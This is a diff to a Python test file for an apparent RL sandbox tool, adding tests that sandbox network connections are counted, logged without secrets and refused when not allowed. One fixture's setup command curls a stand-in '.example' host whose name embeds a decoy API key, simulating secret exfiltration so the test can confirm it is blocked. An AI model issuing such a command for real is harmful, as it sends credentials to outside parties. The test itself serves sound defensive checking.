@@ -5,6 +5,7 @@ from __future__ import annotations
 
 import asyncio
 import contextlib
+import json
 import os
 import socket
 import ssl
@@ -19,6 +20,7 @@ import pytest
 sys.path.insert(0, str(Path(__file__).parent))
 import egress_checks
 
+from hermes_rl.cli import main
 from hermes_rl.errors import SandboxStartError
 from hermes_rl.network import PROXY_CONNECTIONS, AllowedHosts
 from hermes_rl.sandboxes import (
@@ -29,6 +31,7 @@ from hermes_rl.sandboxes import (
     SandboxSpec,
     open_egress,
 )
+from hermes_rl.store import load_run
 
 ROOT = Path(__file__).parents[2]
 ANSWER = b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: keep-alive\r\n\r\nok"
@@ -436,3 +439,53 @@ def test_the_address_that_was_checked_is_the_one_connected_to() -> None:
     )
     assert done.returncode == 0, done.stderr
     assert done.stdout.split() == ["200", "403", "good", "1", "trap", "0", "looks", "2"]
+
+
+def test_a_run_records_what_its_sandboxes_asked_for(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Counts are in each row, also of a failure; a line for each connection in the run directory,
+    without secrets."""
+    monkeypatch.setenv("SOME_API_KEY", "sk-decoy-5b21c0ffee")
+    with egress_checks.web_server() as port:
+        url = f"http://127.0.0.1:{port}/"
+        rows = [
+            {
+                "id": name,
+                "prompt": "Fetch it.",
+                "setup": f"curl -sf {url} >out; curl -s http://sk-decoy-5b21c0ffee.example/; {end}",
+                "verify": "grep -q hello $WORKSPACE/out",
+            }
+            for name, end in (("solved", "true"), ("failed", "exit 3"))
+        ]
+        dataset, out = tmp_path / "rows.jsonl", tmp_path / "run"
+        dataset.write_text("".join(json.dumps(row) + "\n" for row in rows))
+        command = ["run", str(dataset), "--model", "noop", "--workers", "0", "--out", str(out)]
+        assert main([*command, "--network", f"127.0.0.1:{port}"]) == 1
+    run = load_run(out)
+    for table in (run.trajectories, run.failures):
+        (metrics,) = table["metrics"]
+        assert metrics["network_received_bytes"] > 5 < metrics["network_sent_bytes"]
+        counts = [metrics[f"network_{name}"] for name in ("allowed", "refused", "failed")]
+        assert counts == [1.0, 1.0, 0.0]
+    (log,) = (out / "network").iterdir()
+    lines = [json.loads(line) for line in log.read_text().splitlines()]
+    ids = {*run.trajectories["trajectory_id"], *run.failures["trajectory_id"]}
+    assert {line["trajectory_id"] for line in lines} == ids
+    assert sorted(line["outcome"] for line in lines) == ["allowed"] * 2 + ["refused"] * 2
+    assert "decoy" not in log.read_text()
+
+
+@pytest.mark.parametrize(
+    ("network", "message"),
+    [
+        (["--network", "http://a.example"], "error: --network http://a.example: entry "),
+        (["--network", "a.example", "--sandbox", "none", "--allow-unsandboxed"], "--sandbox none "),
+    ],
+)
+def test_what_cannot_be_done_is_refused_in_one_line(
+    network: list[str], message: str, capsys: pytest.CaptureFixture[str]
+) -> None:
+    assert main(["run", "smoke", "--model", "noop", *network]) == 2
+    (line,) = capsys.readouterr().err.splitlines()
+    assert message in line
